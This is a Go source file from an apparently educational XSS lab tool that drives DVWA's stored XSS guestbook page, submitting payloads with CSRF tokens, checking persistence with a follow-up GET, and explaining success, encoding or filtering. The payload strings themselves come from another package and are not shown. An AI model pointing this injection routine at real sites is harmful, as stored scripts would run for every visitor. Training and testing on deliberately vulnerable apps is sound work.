// Package stored walks through DVWA's stored XSS page (the guestbook).
// Persistence is verified against a separate GET performed after the POST,
// never against the POST's own response.
package stored

import (
	"context"
	"fmt"
	"net/url"
	"strings"

	"github.com/sergi/go-diff/diffmatchpatch"

	"xsslab/internal/dispatch"
	"xsslab/internal/explain"
	"xsslab/internal/module"
	"xsslab/internal/payloads"
)

const xssStoredPath = "vulnerabilities/xss_s/"

// Module drives the stored XSS walkthrough.
type Module struct {
	runner *module.Runner

	// baselineBody is the guestbook page as it looked before any payload,
	// kept for the before/after evidence diff.
	baselineBody string
}

// New creates the stored module over a shared runner.
func New(r *module.Runner) *Module {
	return &Module{runner: r}
}

// Run executes the scenario and reports its outcome.
func (m *Module) Run(ctx context.Context) module.Outcome {
	return m.runner.Run(ctx, module.Scenario{
		Name:          "Stored XSS",
		Intro:         m.intro,
		IntroPrompt:   "Proceed to examine the guestbook?",
		Baseline:      m.baseline,
		Payloads:      payloads.Stored,
		PayloadPrompt: "Store this payload in the guestbook?",
		Attempt:       m.attempt,
		OnSuccess: func(r *module.Runner) {
			r.Log.Section("")
			r.Log.Narrative(explain.StoredPrevention)
		},
	})
}

func (m *Module) intro(r *module.Runner) {
	r.Log.Section("STORED XSS MODULE")
	r.Log.Narrative(explain.StoredIntro)
	r.Step("Understanding Stored XSS",
		"We're going to examine DVWA's Stored XSS page (Guestbook). This page allows\n"+
			"users to post messages that are stored in a database and displayed to all visitors.\n\n"+
			"If the application doesn't sanitize input properly, we can store malicious\n"+
			"JavaScript that will execute for EVERY user who views the page.")
}

func (m *Module) baseline(r *module.Runner) error {
	r.Step("Viewing Current Guestbook Entries",
		"First, let's see what's currently in the guestbook.")

	pageURL := r.Target.ResolvePath(xssStoredPath)
	resp := r.Dispatcher.Get(pageURL, nil)
	if resp == nil {
		return fmt.Errorf("failed to reach guestbook page")
	}
	m.baselineBody = resp.Body

	r.Log.Narrative("[+] Successfully accessed guestbook page")
	m.logInjectionBreakdown(r, pageURL)
	r.Log.Narrative(explain.StoredImpact)

	if !r.Approve("Proceed to attempt stored XSS injection?") {
		return module.ErrStopped
	}
	return nil
}

func (m *Module) attempt(r *module.Runner, p payloads.Attempt) bool {
	r.Log.Narrative("\n-> Submitting payload to guestbook...")

	pageURL := r.Target.ResolvePath(xssStoredPath)

	// Fresh token immediately before the POST; DVWA rotates it per page load.
	token := r.Auth.TokenForURL(pageURL)

	// The session User-Agent rides along in an HTML comment so the entry can
	// be attributed when reviewing the guestbook later.
	userAgent := r.Auth.Session().UserAgent()
	annotated := p.Payload + "\n<!-- UA: " + userAgent + " -->"

	form := url.Values{
		"txtName":    {"XSS Test User"},
		"mtxMessage": {annotated},
		"btnSign":    {"Sign Guestbook"},
	}
	if token != "" {
		form.Set("user_token", token)
	}

	r.Log.Narrative("User-Agent recorded with this entry: %s", userAgent)
	r.CurlExamples("POST", pageURL, nil, form, true)

	if resp := r.Dispatcher.Post(pageURL, form); resp == nil {
		r.Log.ExplainFailure(
			fmt.Sprintf("Failed to submit payload %d", p.Index+1),
			"HTTP POST request failed",
			"Check connection to DVWA")
		return false
	}
	r.Log.Narrative("[+] Payload submitted successfully")

	// Persistence is judged by a fresh GET, not by whatever the POST echoed.
	r.Log.Narrative("\n-> Retrieving guestbook to check if payload persists...")
	resp := r.Dispatcher.Get(pageURL, nil)
	r.CurlExamples("GET", pageURL, nil, nil, true)
	if resp == nil {
		r.Log.ExplainFailure(
			"Failed to retrieve guestbook after submission",
			"Could not verify if payload was stored",
			"Try accessing the page manually")
		return false
	}

	switch dispatch.Classify(resp.Body, p.Payload) {
	case dispatch.VariantExact:
		r.Log.ExplainSuccess(
			fmt.Sprintf("Stored XSS payload %d succeeded!", p.Index+1),
			fmt.Sprintf("The payload '%s' is now PERMANENTLY stored in the database.\n\n"+
				"Critical difference from Reflected XSS:\n"+
				"  - Reflected: Victim must click malicious link\n"+
				"  - Stored: EVERY visitor automatically affected\n\n"+
				"Attack timeline:\n"+
				"  1. Attacker stores malicious script (just happened)\n"+
				"  2. Script is saved to database\n"+
				"  3. ANY user who views this page executes the script\n"+
				"  4. No further action needed from attacker", p.Payload))
		r.HTTPEvidence(resp, p.Payload, "stored entry rendered in body")
		m.logGuestbookDiff(r, resp.Body)
		return true

	case dispatch.VariantHTMLEntity:
		suggestion := ""
		if p.Index+1 < len(payloads.Stored) {
			suggestion = "Try a different payload or lower security level"
		}
		r.Log.ExplainFailure(
			fmt.Sprintf("Payload %d was stored but ENCODED", p.Index+1),
			"The payload was saved to the database, but when displayed, special\n"+
				"characters were encoded (< becomes &lt;, > becomes &gt;).\n\n"+
				"This is actually GOOD security practice - it prevents XSS while\n"+
				"preserving the data. The current DVWA security level is doing output encoding.",
			suggestion)
		r.HTTPEvidence(resp, p.Payload, "payload encoded before rendering")

	default:
		suggestion := ""
		if p.Index+1 < len(payloads.Stored) {
			suggestion = "Try alternative payload"
		}
		r.Log.ExplainFailure(
			fmt.Sprintf("Payload %d may have been filtered", p.Index+1),
			"The payload does not appear in the response at all, suggesting:\n"+
				"  - Input filtering removed dangerous strings\n"+
				"  - Payload was rejected before storage\n"+
				"  - Higher security level prevented storage",
			suggestion)
		r.HTTPEvidence(resp, p.Payload, "payload missing from rendered output")
	}

	return false
}

// logGuestbookDiff shows what the POST added to the page by diffing the
// baseline capture against the verification fetch. Only insertions matter.
func (m *Module) logGuestbookDiff(r *module.Runner, verifiedBody string) {
	if m.baselineBody == "" {
		return
	}

	dmp := diffmatchpatch.New()
	diffs := dmp.DiffMain(m.baselineBody, verifiedBody, false)
	dmp.DiffCleanupSemantic(diffs)

	var added []string
	for _, d := range diffs {
		if d.Type == diffmatchpatch.DiffInsert {
			text := strings.TrimSpace(d.Text)
			if text != "" {
				added = append(added, text)
			}
		}
	}
	if len(added) == 0 {
		return
	}

	const maxShown = 400
	joined := strings.Join(added, "\n")
	if len(joined) > maxShown {
		joined = joined[:maxShown] + "..."
	}
	r.Log.Narrative("New content persisted since baseline:\n%s", joined)
}

func (m *Module) logInjectionBreakdown(r *module.Runner, pageURL string) {
	r.Log.Narrative("Injection breakdown:\n"+
		"  - Target endpoint: %s\n"+
		"  - HTTP method: POST to store data, GET to trigger victims.\n"+
		"  - Request fields: txtName (attacker alias), mtxMessage (payload).\n"+
		"  - Server writes message to database, then echoes in HTML body for every visitor.\n"+
		"  - Headers remain untouched; the stored content lives inside the guestbook table rows.", pageURL)
}
